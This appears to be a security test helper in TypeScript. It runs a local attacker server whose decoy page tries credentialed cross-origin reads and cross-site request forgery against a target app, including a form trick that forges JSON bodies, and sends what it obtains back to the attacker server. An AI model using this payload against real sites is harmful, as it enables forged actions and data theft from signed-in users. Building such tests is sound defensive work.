import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A site of somebody else, which a person visits who is signed in to a run's page in the same browser. */
interface Attacker {
  readonly port: number
  /** Whatever its pages got to know, and whatever came to it. */
  readonly gained: readonly string[]
  close(): Promise<void>
}

/** Each tries to read or to do something at `target`, and tells its own site what it got. `acts`: paths and bodies that would change a run. */
interface Aim {
  readonly target: string
  readonly reads: readonly string[]
  readonly acts: readonly { readonly path: string; readonly body: object }[]
}

/** Serves `/`: a page that tries everything that a page may try, and says `over` in its title when it has. */
export async function attacker(aim: Aim): Promise<Attacker> {
  const gained: string[] = []
  const server = createServer((request, response) => {
    if (request.method === 'POST') {
      let body = ''
      request.setEncoding('utf8').on('data', (text: string) => {
        body += text
      })
      request.on('end', () => {
        gained.push(body)
        response.end()
      })
      return
    }
    const script = request.url === '/attack.js'
    response.setHeader('content-type', script ? 'text/javascript' : 'text/html')
    response.end(script ? `const aim = ${JSON.stringify(aim)}\n;(${attack})()` : page)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    port: (server.address() as AddressInfo).port,
    gained,
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

const page = '<!doctype html><title>Cats</title><h1>Cats</h1><script src="/attack.js"></script>'

/** Runs in the browser, on the attacker's page. */
const attack = `async function () {
  const say = (text) => fetch('/gained', { method: 'POST', body: text })
  const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 3000))]).catch(() => null)
  const seen = (what, text) => text && say(what + ': ' + String(text).slice(0, 500))
  const forms = []
  for (const path of aim.reads) {
    const url = aim.target + path
    for (const options of [{}, { credentials: 'include' }, { credentials: 'include', headers: { 'x-holdpoint': '1' } }]) {
      await soon(fetch(url, options).then(async (answer) => seen('fetch ' + path, await answer.text())))
    }
    await soon(fetch(url, { mode: 'no-cors', credentials: 'include' }).then(async (answer) => seen('opaque ' + path, await answer.text())))
    await soon(new Promise((done) => {
      const request = new XMLHttpRequest()
      request.withCredentials = true
      request.onloadend = () => { seen('request ' + path, request.responseText); done() }
      request.open('GET', url)
      request.send()
    }))
    await soon(new Promise((done) => {
      const script = document.createElement('script')
      script.src = url
      script.onload = () => { seen('script ' + path, 'it loaded'); done() }
      script.onerror = done
      document.head.append(script)
    }))
    await soon(new Promise((done) => {
      const frame = document.createElement('iframe')
      frame.src = url
      frame.onload = () => {
        try { seen('frame ' + path, frame.contentDocument && frame.contentDocument.body.textContent) } catch {}
        done()
      }
      document.body.append(frame)
    }))
    await soon(new Promise((done) => {
      const source = new EventSource(url, { withCredentials: true })
      source.onmessage = (event) => { seen('events ' + path, event.data); done() }
      source.onopen = () => { seen('events ' + path, 'they opened'); done() }
      source.onerror = () => { source.close(); done() }
    }))
    await soon(new Promise((done) => {
      const socket = new WebSocket(url.replace('http', 'ws'))
      socket.onopen = () => { seen('socket ' + path, 'it opened'); done() }
      socket.onerror = socket.onclose = done
    }))
  }
  for (const { path, body } of aim.acts) {
    const url = aim.target + path
    const text = JSON.stringify(body)
    for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded', 'application/csp-report', '']) {
      for (const mode of ['cors', 'no-cors']) {
        const headers = type ? { 'content-type': type } : {}
        await soon(fetch(url, { method: 'POST', mode, credentials: 'include', headers, body: text }).then(async (answer) => seen('post ' + path, await answer.text())))
      }
      navigator.sendBeacon(url, new Blob([text], { type }))
    }
    for (const method of ['PUT', 'DELETE', 'PATCH']) {
      await soon(fetch(url, { method, credentials: 'include', body: text }).then(async (answer) => seen(method + ' ' + path, await answer.text())))
    }
    // A form whose one field makes a body that is JSON: {"…":"=…"}
    for (const encoding of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      const frame = document.createElement('iframe')
      frame.name = 'form' + forms.length
      const form = document.createElement('form')
      Object.assign(form, { method: 'POST', action: url, enctype: encoding, target: frame.name })
      const field = document.createElement('input')
      Object.assign(field, { name: text.slice(0, -1) + ',"x":"', value: '"}' })
      form.append(field)
      document.body.append(frame, form)
      forms.push(new Promise((done) => { frame.onload = done }))
      form.submit()
    }
  }
  await soon(Promise.all(forms))
  document.title = 'over'
}`
